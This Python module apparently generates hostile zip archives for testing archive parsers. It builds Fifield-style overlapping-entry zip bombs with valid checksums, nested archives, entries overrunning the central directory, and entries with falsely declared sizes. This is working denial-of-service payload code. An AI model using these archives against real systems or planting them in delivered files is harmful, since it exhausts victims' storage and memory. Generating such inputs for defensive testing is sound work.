"""Overlap bombs: small archives whose entries share their bytes (after David Fifield, "A better zip bomb", 2019).

Quoted: a deflate stream may hold a piece verbatim, so each entry's stream begins by quoting the local header of the
next one and runs on through its data. Every header is read as a header by one entry and as content by those before it,
all names and checksums are true, and only who compares extents notices. Full: every entry of the directory names one
header.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass, replace

from hostile.archives.zips import DEFLATED, STORED, Entry, build, deflate, end_of

POLYNOMIAL = 0xEDB88320
QUOTE_MAX = 0xFFFF  # bytes of one stored block


def multiply(a: int, b: int) -> int:
    """Multiplies two polynomials modulo the one of CRC-32 (bits reversed, as zlib keeps them)."""
    product = 0
    for bit in range(31, -1, -1):
        if a >> bit & 1:
            product ^= b
        b = b >> 1 ^ (POLYNOMIAL if b & 1 else 0)
    return product


def crc_of_both(first: int, second: int, length: int) -> int:
    """Returns the checksum of two pieces from those of each; `length` is that of the second."""
    shift, square = 1 << 31, 1 << 23  # x^0, and x^8 for one byte
    while length:
        if length & 1:
            shift = multiply(shift, square)
        square = multiply(square, square)
        length >>= 1
    return multiply(shift, first) ^ second


@dataclass(frozen=True)
class Bomb:
    """An archive, and what it claims to hold."""

    archive: bytes
    claimed: int
    sizes: tuple[int, ...]


def zeros(size: int) -> bytes:
    """Returns a raw deflate stream of that many zeros, without making them all at once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    parts = [packer.compress(block) for _ in range(size >> 20)]
    return b"".join([*parts, packer.compress(bytes(size & ((1 << 20) - 1))), packer.flush()])


def crc_of_zeros(size: int) -> int:
    """Returns the checksum of that many zeros."""
    checksum = 0
    block = bytes(1 << 20)
    for _ in range(size >> 20):
        checksum = zlib.crc32(block, checksum)
    return zlib.crc32(bytes(size & ((1 << 20) - 1)), checksum)


def quoted(count: int, kernel: int) -> Bomb:
    """Returns a bomb of `count` entries that share one stream of `kernel` zeros."""
    packed = zeros(kernel)
    last = Entry(b"%06d" % count, method=DEFLATED, packed=packed, crc=crc_of_zeros(kernel), size=kernel)
    entries = [last]
    tail = last.local_header() + packed  # from the last header to the end of the data
    for number in range(count - 1, 0, -1):
        following = entries[0]
        header = following.local_header()
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)  # a stored block that is not the last
        fields = following.fields()
        entry = Entry(
            b"%06d" % number,
            method=DEFLATED,
            packed=b"",
            packed_size=len(quote) + len(header) + fields["packed"],
            crc=crc_of_both(zlib.crc32(header), fields["crc"], fields["size"]),
            size=len(header) + fields["size"],
        )
        tail = entry.local_header() + quote + tail
        entries.insert(0, entry)
    offsets = []
    at = 0
    for entry in entries:
        offsets.append(at)
        at += len(entry.local_header()) + 5  # 5: the head of the block that quotes the next one
    return finished(tail, entries, offsets)


def full(count: int, kernel: int) -> Bomb:
    """Returns a bomb of `count` directory entries, all of one local header, each with a name of its own."""
    packed = zeros(kernel)
    one = Entry(b"%06d" % 1, method=DEFLATED, packed=packed, crc=crc_of_zeros(kernel), size=kernel)
    entries = [replace(one, name=b"%06d" % number) for number in range(1, count + 1)]
    return finished(one.local_header() + packed, entries, [0] * count)


def finished(data: bytes, entries: Sequence[Entry], offsets: Sequence[int]) -> Bomb:
    """Puts a directory behind the data."""
    directory = b"".join(entry.central_header(at) for entry, at in zip(entries, offsets, strict=True))
    sizes = tuple(entry.fields()["size"] for entry in entries)
    archive = data + directory + end_of(directory, len(entries), len(data))
    return Bomb(archive, sum(sizes), sizes)


def stored_over_the_next(data: bytes) -> bytes:
    """Returns an archive whose first entry, stored, is the whole of the second one, header and all."""
    inner = Entry(b"inner", data, STORED)
    whole = inner.local_header() + data
    outer = Entry(b"outer", whole, STORED)
    at = len(outer.local_header())
    directory = outer.central_header(0) + inner.central_header(at)
    start = at + len(whole)
    return outer.local_header() + whole + directory + end_of(directory, 2, start)


def into_the_directory() -> bytes:
    """Returns an archive whose last entry runs on into the central directory."""
    entry = Entry(b"runs-on", b"x" * 20, STORED, size=60, packed_size=60)
    return build([Entry(b"good", b"good"), entry])


def nested(depth: int, data: bytes) -> bytes:
    """Returns an archive in an archive in an archive; the innermost holds `data`."""
    archive = build([Entry(b"0.txt", data, DEFLATED)])
    for level in range(1, depth + 1):
        archive = build([Entry(b"%d.zip" % level, archive, DEFLATED)])
    return archive


def many_zeros(size: int, *, declared: int | None = None) -> bytes:
    """Returns an archive of one entry of zeros, at the highest ratio that deflate has; `declared` lies."""
    entry = Entry(b"zeros", method=DEFLATED, packed=zeros(size), crc=crc_of_zeros(size), size=size)
    return build([entry if declared is None else replace(entry, size=declared)])


__all__ = [
    "Bomb",
    "crc_of_both",
    "deflate",
    "full",
    "into_the_directory",
    "many_zeros",
    "nested",
    "quoted",
    "stored_over_the_next",
    "zeros",
]
